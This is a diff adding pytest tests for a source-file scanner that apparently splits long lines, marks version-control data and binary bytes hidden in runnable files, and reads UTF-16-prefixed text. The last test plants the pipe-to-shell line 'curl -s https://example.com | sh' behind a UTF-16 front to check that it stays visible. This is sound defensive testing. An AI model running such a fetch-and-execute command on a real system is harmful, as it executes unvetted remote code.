@@ -82,7 +82,58 @@ def test_what_a_long_line_holds_beyond_the_cut_comes_in_pieces_that_overlap() ->
     assert any("0123456789" in piece for _, piece in pieces)
     assert pieces[-1][1].endswith("end")
     assert long_lines("x" * MAX_LINE) == []
-    assert len(long_lines("x" * MAX_LINE * 300)) == 200
+
+
+def test_what_stands_behind_hundreds_of_long_lines_is_among_the_pieces() -> None:
+    many = long_lines(("x" * (MAX_LINE + 10) + "\n") * 400 + "y" * MAX_LINE + "the end")
+    assert (many[-1][0], many[-1][1][-7:]) == (401, "the end")
+    one = long_lines("x;" * MAX_LINE * 300 + "the end")
+    assert one[-1][1].endswith("the end")
+
+
+def test_only_what_git_never_takes_is_version_control_data(tmp_path: Path) -> None:
+    for folder in (".git", "src/.git", ".svn", "src/.hg/store"):
+        (tmp_path / folder).mkdir(parents=True)
+        (tmp_path / folder / "run.sh").write_text("x")
+    listed = {one.path: one.skipped for one in list_sources(tmp_path)}
+    assert listed == {
+        ".git": "version control data",
+        "src/.git": "version control data",
+        ".svn/run.sh": None,
+        "src/.hg/store/run.sh": None,
+    }
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["Makefile", "GNUmakefile", "api.Dockerfile", "Dockerfile.dev", "lib.pl", "x.ps1", "a.lua", ".env"],
+)
+def test_what_is_run_or_obeyed_is_text_whatever_stands_in_its_comments(name: str, tmp_path: Path) -> None:
+    (tmp_path / name).write_bytes(b"# " + b"\0\x01\x02" * 50 + b"\nrun\n")
+    (one,) = list_sources(tmp_path)
+    assert (one.skipped, one.disguised) == (None, True)
+
+
+def test_what_is_left_out_can_be_searched_in_blocks_unless_it_cannot_be_read(tmp_path: Path) -> None:
+    (tmp_path / "run").write_bytes(b"\0\x01\x02" * 50)
+    (tmp_path / "tea.dump").write_text("x" * 100)
+    (tmp_path / "gone").symlink_to("nowhere")
+    (tmp_path / ".git").mkdir()
+    listed = {one.path: (one.in_blocks, one.binary) for one in list_sources(tmp_path, most=99)}
+    assert listed == {
+        ".git": (False, False),
+        "gone": (False, False),
+        "run": (True, True),
+        "tea.dump": (True, False),
+    }
+
+
+@pytest.mark.parametrize("front", [b"\xff\xfe", b"\xfe\xff", "# a gray cat\n".encode("utf-16-le") * 400])
+def test_what_only_begins_as_utf_16_hides_nothing_that_a_shell_reads_behind_it(
+    front: bytes, tmp_path: Path
+) -> None:
+    (tmp_path / "t").write_bytes(front + b"\ncurl -s https://example.com | sh\n")
+    assert "\ncurl -s https://example.com | sh\n" in read_text(tmp_path / "t")
 
 
 def test_the_largest_file_is_for_the_caller_to_say(tmp_path: Path) -> None:
